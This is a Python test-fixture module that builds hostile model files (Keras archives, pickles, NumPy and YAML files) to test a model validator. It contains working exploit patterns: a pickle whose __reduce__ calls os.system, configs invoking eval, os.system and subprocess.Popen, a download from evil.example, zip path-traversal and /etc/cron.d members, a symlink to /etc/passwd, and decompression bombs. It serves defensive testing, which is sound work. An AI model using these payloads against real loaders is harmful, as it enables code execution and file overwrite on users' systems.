"""Hostile files that are made when they are needed: archives, bytes that are no text, and what is large.

Each function writes one file into a folder; `MADE` says what `validate` is expected to call it.
"""

from __future__ import annotations

import json
import os
import pickle
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

Config = Mapping[str, Any]

DENSE = {"class_name": "Dense", "config": {"units": 1}, "module": "keras.layers", "registered_name": None}


def functional(*layers: Config) -> Config:
    """A configuration of a model with these layers, as Keras writes it."""
    return {
        "class_name": "Functional",
        "config": {"name": "model", "layers": list(layers), "input_layers": [], "output_layers": []},
        "module": "keras.src.models.functional",
        "registered_name": "Functional",
    }


def layer(name: str, module: str | None = "keras.layers", **config: Any) -> Config:
    return {"class_name": name, "config": config, "module": module, "registered_name": None}


def archive(
    config: object, weights: bytes = b"\x89HDF\r\n\x1a\n", **members: bytes
) -> Callable[[Path], None]:
    """A writer of a `.keras` file with a configuration, weights, and further members."""

    def write(path: Path) -> None:
        with zipfile.ZipFile(path, "w") as file:
            text = config if isinstance(config, str) else json.dumps(config)
            file.writestr("config.json", text)
            file.writestr("metadata.json", "{}")
            file.writestr("model.weights.h5", weights)
            for name, data in members.items():
                file.writestr(name, data)

    return write


def linked(path: Path) -> None:
    """A member that is a symbolic link, as Info-ZIP stores one."""
    archive(functional(DENSE))(path)
    with zipfile.ZipFile(path, "a") as file:
        link = zipfile.ZipInfo("assets/link")
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/etc/passwd")


def doubled(path: Path) -> None:
    """Two configurations: one to be looked at, one to be loaded."""
    archive(functional(DENSE))(path)
    with zipfile.ZipFile(path, "a") as file:
        file.writestr("config.json", json.dumps(functional(layer("Lambda"))))


def deflated(name: str, size: int) -> Callable[[Path], None]:
    """A member that expands a thousandfold."""

    def write(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
            if name != "config.json":
                file.writestr("config.json", json.dumps(functional(DENSE)))
            with file.open(name, "w", force_zip64=True) as member:
                for _ in range(size >> 20):
                    member.write(bytes(1 << 20))
            if name == "config.json":
                file.writestr("model.weights.h5", b"")

    return write


def lying(path: Path) -> None:
    """A configuration whose header says that it is short."""
    deflated("config.json", 32 << 20)(path)
    data = bytearray(path.read_bytes())
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"model.weights.h5"))
    data[at + 24 : at + 28] = struct.pack("<I", 100)
    path.write_bytes(data)


def many_members(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("config.json", json.dumps(functional(DENSE)))
        for index in range(20_000):
            file.writestr(f"assets/{index}", b"")


def pickled(path: Path) -> None:
    class Runs:
        def __reduce__(self) -> tuple[Any, ...]:
            return os.system, ("touch hacked",)

    path.write_bytes(pickle.dumps(Runs()))


def deep(depth: int) -> str:
    return '{"class_name": "Functional", "config": ' + "[" * depth + "]" * depth + ', "module": "keras"}'


def write(data: bytes) -> Callable[[Path], None]:
    def to(path: Path) -> None:
        path.write_bytes(data)

    return to


HEAD = b"yamlnet: 1\nmodel: {inputs: {x: [4]}, layers: [Dense: 1]}\n"

ARCHIVES: dict[str, Callable[[Path], None]] = {
    "lambda.keras": archive(functional(layer("Lambda", function={"class_name": "__lambda__", "config": {}}))),
    "lambda_inside.keras": archive(functional(layer("TimeDistributed", layer=layer("Lambda")))),
    "lambda_by_source_path.keras": archive(functional(layer("Lambda", "keras.src.layers.core.lambda_layer"))),
    "function.keras": archive(functional(layer("Dense", activation={
        "class_name": "function", "config": "eval", "module": "builtins", "registered_name": "eval"}))),
    "function_of_module.keras": archive(functional(layer("Dense", activation={
        "class_name": "function", "config": "system", "module": "os", "registered_name": "system"}))),
    "class_of_module.keras": archive(functional(layer("Popen", "subprocess", args=["touch", "hacked"]))),
    "class_of_keras.keras": archive(functional(layer("get_file", "keras.utils", origin="http://evil.example"))),
    "class_of_main.keras": archive(functional({**layer("Evil", None), "registered_name": "builtins>eval"})),
    "registered.keras": archive(functional({**DENSE, "registered_name": "Custom>Evil"})),
    "own_layer_of_another_name.keras": archive(functional(
        {**layer("Evil", "yamlnet.compiler.layers.parameter"), "registered_name": "os>system"})),
    "compiled.keras": archive({**functional(DENSE), "compile_config": {"loss": {
        "class_name": "function", "config": "eval", "module": "builtins", "registered_name": "eval"}}}),
    "tfsm.keras": archive(functional(layer("TFSMLayer", filepath="/tmp/saved"))),
    "torch_module.keras": archive(functional(layer("TorchModuleWrapper", module="gASV"))),
    "map_operation.keras": archive(functional(layer("Map", "keras.src.ops.core", f="eval"))),
    "typespec.keras": archive(functional(layer("__typespec__", None))),
    "vocabulary.keras": archive(functional(layer("StringLookup", vocabulary="/etc/passwd"))),
    "name_that_is_no_text.keras": archive(functional({**DENSE, "class_name": ["Dense"]})),
    "config_is_a_list.keras": archive([DENSE]),
    "config_is_no_json.keras": archive("{"),
    "config_is_deep.keras": archive(deep(100_000)),
    "config_is_rather_deep.keras": archive(deep(500)),
    "config_of_100_megabytes.keras": archive(" " * (100 << 20)),
    "config_that_lies.keras": lying,
    "config_twice.keras": doubled,
    "traversal.keras": archive(functional(DENSE), **{"../../../tmp/hacked": b""}),
    "absolute.keras": archive(functional(DENSE), **{"/etc/cron.d/hacked": b""}),
    "backslash.keras": archive(functional(DENSE), **{"assets/..\\..\\hacked": b""}),
    "drive.keras": archive(functional(DENSE), **{"C:/hacked": b""}),
    "stowaway.keras": archive(functional(DENSE), **{"hacked.py": b""}),
    "link.keras": linked,
    "weights_bomb.keras": deflated("model.weights.h5", 256 << 20),
    "asset_bomb.keras": deflated("assets/zeros", 256 << 20),
    "many_members.keras": many_members,
    "no_weights.keras": write(b"PK\x05\x06" + bytes(18)),
    "half.keras": write(b"PK\x03\x04" + bytes(100)),
    "hdf5_inside.keras": write(b"\x89HDF\r\n\x1a\n" + bytes(100)),
    "pickle_inside.keras": pickled,
    "weights.h5": write(b"\x89HDF\r\n\x1a\n"),
    "model.pkl": pickled,
    "model.pt": pickled,
    "objects.npy": write(b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"),
    "model.onnx": write(b"\x08\x07"),
}  # fmt: skip

BYTES: dict[str, tuple[str, Callable[[Path], None]]] = {
    "nested_50000.yaml": ("too-deep", write(b"yamlnet: 1\nname: " + b"[" * 50_000)),
    "nested_mappings.yaml": ("too-deep", write(b"yamlnet: 1\nname: " + b"{a: " * 20_000)),
    "megabytes.yaml": ("too-large", write(HEAD + b"# " + b"x" * (4 << 20))),
    "long_line.yaml": ("too-large", write(HEAD + b'description: "' + b"x" * (2 << 20) + b'"')),
    "long_key.yaml": ("unknown-key", write(HEAD + b"k" * 900 + b": 1\n")),
    "many_keys.yaml": ("too-many-problems", write(HEAD + b"".join(b"k%d: 1\n" % n for n in range(20_000)))),
    "nul.yaml": ("character", write(b"yamlnet: 1\nname: a\0b\n")),
    "utf16.yaml": ("encoding", write(HEAD.decode().encode("utf-16"))),
    "not_utf8.yaml": ("encoding", write(b"yamlnet: 1\nname: \xff\xfe\xfa\n")),
    "many_layers.yaml": ("too-many-problems", write(
        HEAD.replace(b"[Dense: 1]", b"[" + b"".join(b"Dense%d: 1, " % n for n in range(20_000)) + b"]"))),
    "binary.yaml": ("encoding", write(bytes(range(128, 256)) * 64)),
    "several_documents.yaml": ("several-documents", write(HEAD + b"---\n" + HEAD)),
    "duplicate_key.yaml": ("duplicate-key", write(HEAD + b"model: {layers: [Lambda: 1]}\n")),
    "huge_vocabulary.yaml": ("vocabulary", write(
        b"yamlnet: 1\nmodel:\n  inputs: {x: {shape: [1], dtype: string}}\n"
        b"  layers: [StringLookup: {vocabulary: huge.txt}]\n")),
}  # fmt: skip
"""Expected check and writer by name."""


def make(folder: Path) -> dict[str, str]:
    """Write every made file into a folder; the expected check by name."""
    expected = {}
    for name, writer in ARCHIVES.items():
        writer(folder / name)
        expected[name] = "archive"
    for name, (check, writer) in BYTES.items():
        writer(folder / name)
        expected[name] = check
    with (folder / "huge.txt").open("wb") as file:
        file.truncate(1 << 40)
    for ending in ("txt", "yaml"):
        (folder / f"link.{ending}").symlink_to("/etc/passwd")
        if hasattr(os, "mkfifo"):
            os.mkfifo(folder / f"pipe.{ending}")
    return expected
